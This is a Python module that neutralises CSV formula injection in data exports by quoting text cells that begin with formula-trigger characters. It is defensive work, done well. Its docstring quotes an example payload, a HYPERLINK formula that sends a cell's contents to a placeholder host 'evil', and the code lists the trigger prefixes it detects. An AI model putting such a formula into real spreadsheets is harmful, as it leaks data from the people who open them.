"""CSV cells that a spreadsheet would run as formulas, made inert (OWASP "CSV injection").

Event notes, actor names and article titles come from datasets and news pages, so anyone can
put ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``@SUM(...)`` into a cell that Excel,
LibreOffice or Google Sheets then evaluates when an analyst opens the export. Following OWASP,
a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single
quote in front: the spreadsheet shows the text, the quote hides, nothing runs. Numbers are numbers
in the table (a negative fatality count is not text), so only text columns change.

Pipelines that read the CSV with a program and need the exact text turn this off:
``RUYDAD_CSV_FORMULAS=keep`` for the CLI, ``formulas=keep`` on ``/api/events?format=csv``.
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
KEEP_ENV = "RUYDAD_CSV_FORMULAS"
_PATTERN = r"^[=+\-@\t\r]"


def keep_formulas_by_default() -> bool:
    """True when ``$RUYDAD_CSV_FORMULAS`` is ``keep`` (a trusted pipeline asked for the raw text)."""
    return os.environ.get(KEEP_ENV, "").strip().lower() == "keep"


def neutralise_cell(value: Any) -> Any:
    """``value`` with a quote in front when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralise_table(table: pa.Table) -> pa.Table:
    """The table with every text cell passed through :func:`neutralise_cell` (vectorised)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.fill_null(pc.match_substring_regex(column, _PATTERN), False)
            quoted = pc.binary_join_element_wise(pa.scalar("'", column.type), column, pa.scalar("", column.type))
            column = pc.if_else(risky, quoted, column)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)
